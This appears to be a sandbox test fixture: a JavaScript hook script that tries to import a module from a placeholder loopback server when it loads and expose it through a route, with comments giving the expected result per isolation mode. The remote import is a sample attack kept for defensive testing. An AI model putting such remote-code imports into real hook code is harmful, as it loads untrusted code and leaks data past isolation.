// attack: imports a module from a server when it loads
// worker: denied-at-load
// process: denied-at-load
// naive: leaked
import stolen from "http://%LOOPBACK%/%NAME%/static.js";
routerAdd("GET", "/attack/%NAME%", (e) => e.json(200, stolen));
